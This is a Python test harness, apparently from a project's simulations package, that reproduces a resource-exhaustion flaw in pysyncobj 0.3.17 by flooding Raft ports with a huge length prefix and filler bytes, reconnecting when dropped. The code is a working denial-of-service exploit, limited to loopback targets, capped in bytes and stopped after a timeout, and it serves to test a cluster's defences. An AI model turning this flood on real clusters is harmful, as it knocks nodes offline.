"""A stranger flooding a Raft port: a huge length prefix, then bytes, reconnecting when dropped.

pysyncobj 0.3.17 buffered a whole announced frame before trying to decrypt it, so one such
connection kept a node at 100 % CPU with its memory growing (see ``cluster/_pysyncobj_compat.py``,
item 4). This is the attack of that finding, bounded: it sends to 127.0.0.0/8 only, at most
``max_bytes_per_connection`` per connection and ``max_bytes`` per target in all (a node that
drops the connection at once still lets the kernel take a socket buffer's worth, ~1.3 MB on
loopback here, before the reset shows), and stops by itself after ``seconds``.

    python -m simulations.raft_flood 127.0.0.1:7001 [127.0.0.1:7002 ...] [--seconds 20]
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import socket
import struct
import threading
import time
from typing import Optional

import attrs

__all__ = ["FloodStats", "Flood", "flood"]

#: pysyncobj reads a frame's length as a native signed 32-bit int ('i'); this is its largest value.
HUGE_LENGTH = 2**31 - 1
_CHUNK = b"\xa5" * 65536


@attrs.define
class FloodStats:
    """What one target saw: connections opened, those the node closed on us, bytes it accepted."""

    target: str
    connections: int = 0
    dropped: int = 0
    refused: int = 0
    bytes_sent: int = 0
    longest_connection_s: float = 0.0
    seconds: float = 0.0


def _loopback(addr: str) -> tuple[str, int]:
    host, port = addr.rsplit(":", 1)
    if not ipaddress.ip_address(host).is_loopback:
        raise ValueError(f"{addr}: the flood sends to 127.0.0.0/8 only")
    return host, int(port)


def flood(
    addr: str,
    seconds: float,
    stop: Optional[threading.Event] = None,
    max_bytes_per_connection: int = 64 * 2**20,
    max_bytes: int = 64 * 2**30,
) -> FloodStats:
    """Flood ``addr`` for ``seconds`` (or until ``stop`` is set); returns what happened."""
    host, port = _loopback(addr)
    stats = FloodStats(addr)
    stop = stop or threading.Event()
    started = time.monotonic()
    deadline = started + seconds
    while not stop.is_set() and time.monotonic() < deadline and stats.bytes_sent < max_bytes:
        try:
            sock = socket.create_connection((host, port), timeout=0.5)
        except OSError:
            stats.refused += 1
            time.sleep(0.05)
            continue
        opened = time.monotonic()
        stats.connections += 1
        sent = 0
        try:
            sock.settimeout(0.2)
            sock.sendall(struct.pack("i", HUGE_LENGTH))
            while not stop.is_set() and time.monotonic() < deadline and sent < max_bytes_per_connection \
                    and stats.bytes_sent < max_bytes:
                try:
                    n = sock.send(_CHUNK)
                except (TimeoutError, BlockingIOError):
                    continue  # the node is not reading: keep the connection open, try again
                sent += n
                stats.bytes_sent += n
        except OSError:
            stats.dropped += 1
        finally:
            stats.longest_connection_s = max(stats.longest_connection_s, time.monotonic() - opened)
            sock.close()
    stats.seconds = time.monotonic() - started
    return stats


class Flood:
    """One flooding thread per address, as a context manager; :attr:`stats` once stopped."""

    def __init__(self, addrs: list[str], seconds: float, **kwargs: int) -> None:
        for addr in addrs:
            _loopback(addr)
        self._stop = threading.Event()
        self.stats: list[FloodStats] = []
        self._threads = [
            threading.Thread(target=lambda a=addr: self.stats.append(flood(a, seconds, self._stop, **kwargs)), daemon=True)
            for addr in addrs
        ]

    def __enter__(self) -> "Flood":
        for thread in self._threads:
            thread.start()
        return self

    def join(self, timeout: float) -> None:
        deadline = time.monotonic() + timeout
        for thread in self._threads:
            thread.join(max(0.0, deadline - time.monotonic()))

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self.join(10.0)


def _main() -> None:
    parser = argparse.ArgumentParser(prog="python -m simulations.raft_flood")
    parser.add_argument("addrs", nargs="+", help="HOST:PORT of Raft ports on 127.0.0.0/8")
    parser.add_argument("--seconds", type=float, default=20.0)
    args = parser.parse_args()
    with Flood(args.addrs, args.seconds) as f:
        f.join(args.seconds + 10.0)
    print(json.dumps([attrs.asdict(s) for s in f.stats]))


if __name__ == "__main__":
    _main()
